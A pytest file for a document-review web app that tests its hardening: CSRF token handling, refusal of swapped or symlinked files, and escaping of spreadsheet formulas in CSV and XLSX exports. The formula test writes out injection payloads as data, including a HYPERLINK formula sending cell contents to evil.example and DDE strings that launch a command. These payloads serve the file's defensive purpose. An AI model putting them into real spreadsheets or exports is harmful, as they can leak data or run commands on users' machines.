"""Review-app hardening found in review: a non-ASCII CSRF token is a 403 (not a 500), and the
original file and its page images are served only while the file on disk is still the content
that was loaded (a file replaced, or swapped for a symlink to another file, is refused)."""
from __future__ import annotations

import os
import shutil

import pytest
from fastapi.testclient import TestClient

from review_helpers import DOCS, SECRET, document_id, flag_id, sign_in


@pytest.fixture
def signed_in(db, tmp_path):
    from review.app import create_app

    app = create_app(db, secret=SECRET, cache_dir=tmp_path / "cache")
    with TestClient(app, base_url="http://testserver") as c:
        assert sign_in(c).status_code == 303
        yield c


def test_a_non_ascii_csrf_token_is_refused_not_a_server_error(signed_in, db):
    fid = flag_id(db, "total_mismatch", "duc-chinh-2020-h1.docx")
    r = signed_in.post(f"/flags/{fid}/decision", data={"action": "confirm", "csrf_token": "không-phải"},
                       follow_redirects=False)
    assert r.status_code == 403


def _moved_db_document(db, name, dest):
    """Point the document `name` at a private copy `dest` (so the test may change the file)."""
    from sqlalchemy import update

    from outputs.db import Document, session_scope

    shutil.copy2(DOCS / name, dest)
    doc = document_id(db, name)
    with session_scope(db) as s:
        s.execute(update(Document).where(Document.id == doc).values(path=str(dest)))
    return doc


def test_a_changed_or_swapped_file_is_not_served(signed_in, db, tmp_path):
    doc = _moved_db_document(db, "duc-chinh-2020-h1.docx", tmp_path / "copy.docx")
    ok = signed_in.get(f"/documents/{doc}/file")
    assert ok.status_code == 200 and ok.content == (DOCS / "duc-chinh-2020-h1.docx").read_bytes()
    assert "attachment" in ok.headers["content-disposition"]
    secret = tmp_path / "secret.txt"
    secret.write_text("not a report\n")
    (tmp_path / "copy.docx").unlink()
    os.symlink(secret, tmp_path / "copy.docx")  # someone with the inbox swaps the file
    r = signed_in.get(f"/documents/{doc}/file")
    assert r.status_code == 409 and b"not a report" not in r.content


def test_a_changed_pdf_is_not_rendered_under_the_loaded_hash(signed_in, db, tmp_path):
    doc = _moved_db_document(db, "duc-chinh-2020-h1.pdf", tmp_path / "copy.pdf")
    shutil.copy2(DOCS / "mao-khe-2021-chi-thi-04.pdf", tmp_path / "copy.pdf")  # other content
    r = signed_in.get(f"/documents/{doc}/pages/1.png")
    assert r.status_code == 409
    assert not list((tmp_path / "cache").glob("*.png"))  # nothing cached under the old hash
    shutil.copy2(DOCS / "duc-chinh-2020-h1.pdf", tmp_path / "copy.pdf")  # the loaded content again
    r = signed_in.get(f"/documents/{doc}/pages/1.png")
    assert r.status_code == 200 and r.headers["content-type"] == "image/png"


def test_report_text_cannot_become_a_spreadsheet_formula(signed_in, db):
    import csv
    import io

    from openpyxl import load_workbook
    from sqlalchemy import update

    from outputs.db import session_scope
    from outputs.db.models import FlagRow

    fid = flag_id(db, "total_mismatch", "duc-chinh-2020-h1.pdf")
    evil = '=HYPERLINK("http://evil.example/?"&A1,"8.28")'
    payloads = {"stated": evil, "suggestion": "@SUM(A1)", "message": "-2+3+cmd|' /C calc'!A0",
                "message_en": "+1+cmd|' /C calc'!A0", "section": "\t=1+1", "column": "\r=1+1"}
    with session_scope(db) as s:
        s.execute(update(FlagRow).where(FlagRow.id == fid).values(**payloads))
    rows = list(csv.reader(io.StringIO(signed_in.get("/export/flags.csv").content.decode("utf-8-sig"))))
    (row,) = [r for r in rows[1:] if r[0] == str(fid)]
    for value in payloads.values():  # every formula prefix: =, +, -, @, tab, carriage return
        assert "'" + value in row and value not in row, value
    assert "828" in row and "-5" not in row  # a plain number stays a number
    book = load_workbook(io.BytesIO(signed_in.get("/export/review.xlsx").content))
    cells = [c for r in book["Flags"].iter_rows() for c in r if c.value == evil]
    assert cells and all(c.data_type == "s" for c in cells)
